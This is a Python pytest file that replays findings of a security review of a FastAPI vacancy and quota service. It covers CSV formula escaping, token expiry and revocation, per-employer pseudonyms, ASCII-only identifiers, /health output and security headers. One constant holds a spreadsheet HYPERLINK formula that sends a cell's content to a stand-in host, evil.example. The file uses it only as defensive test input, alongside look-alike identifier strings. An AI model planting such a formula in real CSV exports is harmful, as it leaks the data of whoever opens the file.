"""Security findings 2, 5, 8, 9 and 10 of the attack review, replayed: CSV formula injection,
body limits, per-token rate and concurrency limits, one 500 that breaks nothing else, headers,
/health for strangers, token expiry and last use, the last admin token, ASCII ids, outcome
dates, per-employer pseudonyms."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session, select

from service.api.app import create_app
from service.reports import quota as reports
from service.reports import render
from service.runtime import Runtime
from service.store import tokens
from service.store.imports import import_records
from service.store.tables import ApiToken
from tests.factories import bin_number, vacancy

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _auth(secret: str, lang: str = "en") -> dict[str, str]:
    return {"Authorization": f"Bearer {secret}", "Accept-Language": lang}


@pytest.fixture
def client(runtime: Runtime) -> TestClient:
    return TestClient(create_app(runtime))


# -- CSV formula injection (finding 5) ----------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_that_starts_a_formula_gets_a_quote(start: str) -> None:
    assert render.safe_cell(start + "1+1") == "'" + start + "1+1"


def test_numbers_stay_numbers_and_plain_text_stays() -> None:
    assert render.safe_cell(-3) == -3
    assert render.safe_cell(-0.5) == -0.5
    assert render.safe_cell("ТОО «Каспий»") == "ТОО «Каспий»"
    # a vacancy title as it would reach any CSV the service writes
    assert render.safe_cell(EVIL) == "'" + EVIL


@pytest.fixture
def evil_world(session: Session, runtime: Runtime) -> str:
    employer = bin_number(201)
    rows = [
        vacancy(
            1,
            employer_bin=employer,
            employer_name=EVIL,
            title=EVIL,
            kato="471010000",
            is_quota="true",
            quota_slots="2",
            quota_from="2026-03-01",
        )
    ]
    report = import_records(session, "vacancies", rows, protector=runtime.protector)
    assert report.ok, [e.as_dict("en") for e in report.errors]
    return employer


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_quota_csv_neutralises_an_employer_name(session: Session, evil_world: str) -> None:
    ledger = reports.quota_ledger(session, kato=None, today=date(2026, 6, 30))
    cells = _cells(render.to_csv(ledger, "en"))
    assert "'" + EVIL in cells
    assert EVIL not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_quota_csv_through_the_api_and_the_command_line(
    client: TestClient,
    session: Session,
    evil_world: str,
    run,  # type: ignore[no-untyped-def]
) -> None:
    secret = tokens.create(session, role="employer", employer_bin=evil_world)[0]
    answer = client.get("/api/v1/reports/quota?format=csv&as_of=2026-06-30", headers=_auth(secret))
    assert answer.status_code == 200
    assert "'" + EVIL in _cells(answer.text)
    assert EVIL not in _cells(answer.text)
    printed = run("report", "quota", "--csv", "--as-of", "2026-06-30")
    assert printed.exit_code == 0, printed.output
    assert "'" + EVIL in _cells(printed.stdout)
    assert EVIL not in _cells(printed.stdout)


# -- tokens: expiry, last use, the last admin (finding 10) ----------------------------------


def test_a_token_expires_after_90_days_by_default(session: Session) -> None:
    _, record = tokens.create(session, role="officer")
    assert record.expires_at is not None
    life = tokens._aware(record.expires_at) - datetime.now(UTC)
    assert timedelta(days=89) < life <= timedelta(days=90)
    _, short = tokens.create(session, role="officer", days=3)
    assert short.expires_at is not None
    assert tokens._aware(short.expires_at) - datetime.now(UTC) <= timedelta(days=3)


def test_an_expired_token_is_401_with_its_own_message(client: TestClient, session: Session) -> None:
    secret, record = tokens.create(session, role="officer")
    record.expires_at = datetime.now(UTC) - timedelta(minutes=1)
    session.add(record)
    session.commit()
    for lang in ("ru", "kk", "en"):
        answer = client.get("/api/v1/persons/P00001", headers=_auth(secret, lang))
        assert answer.status_code == 401
        assert answer.json()["error"]["code"] == "token_expired"
        assert record.expires_at.date().isoformat() in answer.json()["error"]["message"]


def test_last_use_is_recorded_at_most_once_a_minute(client: TestClient, session: Session) -> None:
    secret, record = tokens.create(session, role="officer")
    assert record.last_used_at is None
    client.get("/api/v1/persons/P00001", headers=_auth(secret))
    session.refresh(record)
    first = record.last_used_at
    assert first is not None
    client.get("/api/v1/persons/P00001", headers=_auth(secret))
    session.refresh(record)
    assert record.last_used_at == first
    # a minute later, the next request writes it again
    assert record.id is not None
    assert tokens.touch(session, record, tokens._aware(first) + timedelta(seconds=61))
    session.refresh(record)
    assert tokens._aware(record.last_used_at) > tokens._aware(first)  # type: ignore[arg-type]


def test_the_last_live_admin_token_cannot_be_revoked(client: TestClient, session: Session) -> None:
    for existing in session.exec(select(ApiToken).where(ApiToken.role == "admin")).all():
        existing.revoked_at = datetime.now(UTC)
        session.add(existing)
    session.commit()
    secret, record = tokens.create(session, role="admin")
    answer = client.delete(f"/api/v1/tokens/{record.id}", headers=_auth(secret))
    assert answer.status_code == 409
    assert answer.json()["error"]["code"] == "last_admin"
    _, other = tokens.create(session, role="admin")
    assert client.delete(f"/api/v1/tokens/{record.id}", headers=_auth(secret)).status_code == 200
    # the one left is the last again
    assert other.id is not None
    with pytest.raises(tokens.TokenError):
        tokens.revoke(session, other.id)


def test_token_create_days_on_the_command_line(run, session: Session) -> None:  # type: ignore[no-untyped-def]
    made = run("token", "create", "--role", "officer", "--days", "7")
    assert made.exit_code == 0, made.output
    secret = made.stdout.strip().splitlines()[-1]
    record = tokens.find(session, secret)
    assert record is not None
    assert record.expires_at is not None
    life = tokens._aware(record.expires_at) - datetime.now(UTC)
    assert timedelta(days=6) < life <= timedelta(days=7)


# -- pseudonyms per employer, 64 bits (finding 10) --------------------------------------------


def test_each_employer_sees_its_own_64_bit_code(runtime: Runtime) -> None:
    protector = runtime.protector
    first = protector.pseudonym("P00001", employer_bin=bin_number(1))
    assert first == protector.pseudonym("P00001", employer_bin=bin_number(1))
    assert first != protector.pseudonym("P00001", employer_bin=bin_number(2))
    assert first != protector.pseudonym("P00002", employer_bin=bin_number(1))
    assert first.startswith("C-")
    assert len(first) == 2 + 16
    int(first[2:], 16)
    codes = {
        protector.pseudonym(f"P{n:05d}", employer_bin=bin_number(e))
        for n in range(300)
        for e in range(1, 4)
    }
    assert len(codes) == 900


# -- ids and dates (finding 10) --------------------------------------------------------------


def test_ids_are_ascii_only_in_files_and_in_the_api(
    client: TestClient, session: Session, runtime: Runtime
) -> None:
    from catalogs.fields import FieldError, identifier

    assert identifier("P00001") == "P00001"
    assert identifier("kz:V-1/2_a.b") == "kz:V-1/2_a.b"
    for look_alike in ("Р00001", "P0000١", "Ｐ00001"):  # Cyrillic Р, Arabic digit, full width
        with pytest.raises(FieldError):
            identifier(look_alike)
    report = import_records(
        session, "vacancies", [vacancy(1, vacancy_id="В00001")], protector=runtime.protector
    )
    assert not report.ok
    assert report.errors[0].as_dict("en")["code"] == "bad_identifier"
    admin = tokens.create(session, role="officer")[0]
    event = {"person_id": "Р00001", "item_kind": "vacancy", "item_id": "V00001",
             "event": "referred", "date": "2026-01-05"}  # fmt: skip
    answer = client.post("/api/v1/outcomes", json=event, headers=_auth(admin))
    assert answer.status_code == 422
    assert answer.json()["error"]["details"][0]["column"].endswith("person_id")


def test_outcome_dates_before_2000_are_refused() -> None:
    from catalogs.outcomes.schema import schema

    check = schema(today=date(2026, 6, 30))
    row = {"person_id": "P00001", "item_kind": "vacancy", "item_id": "V00001",
           "event": "referred"}  # fmt: skip
    _, problems = check.parse({**row, "date": "1999-12-31"})
    assert [p.code for p in problems] == ["date_before_2000"]
    assert check.parse({**row, "date": "2000-01-01"})[1] == []


# -- /health and headers (finding 10) -------------------------------------------------------


def test_health_tells_strangers_only_that_it_is_up(client: TestClient, session: Session) -> None:
    assert client.get("/api/v1/health").json() == {"status": "ok"}
    bad = client.get("/api/v1/health", headers={"Authorization": "Bearer nope"})
    assert bad.json() == {"status": "ok"}
    secret = tokens.create(session, role="employer", employer_bin=bin_number(5))[0]
    known = client.get("/api/v1/health", headers=_auth(secret)).json()
    assert known["status"] == "ok"
    assert known["database"]
    assert known["version"]


def test_security_headers(client: TestClient, session: Session) -> None:
    secret = tokens.create(session, role="officer")[0]
    for url in ("/api/v1/persons/P00001", "/api/v1/tokens", "/api/v1/nowhere"):
        answer = client.get(url, headers=_auth(secret))
        assert answer.headers["x-content-type-options"] == "nosniff", url
        assert answer.headers["cache-control"] == "no-store", url
    health = client.get("/api/v1/health")
    assert health.headers["x-content-type-options"] == "nosniff"
    assert "no-store" not in health.headers.get("cache-control", "")
    page = client.get("/docs")
    assert page.status_code == 200
    assert "frame-ancestors 'none'" in page.headers["content-security-policy"]
    assert page.headers["x-content-type-options"] == "nosniff"
    # the page's own script and style files are allowed by its policy: same origin
    assert "default-src 'self'" in page.headers["content-security-policy"]
    for asset in ("swagger-ui-bundle.js", "swagger-ui.css"):
        assert f"/docs-assets/{asset}" in page.text
        assert client.get(f"/docs-assets/{asset}").status_code == 200
    schema = client.get("/api/v1/openapi.json")
    assert schema.status_code == 200
    assert "content-security-policy" not in schema.headers
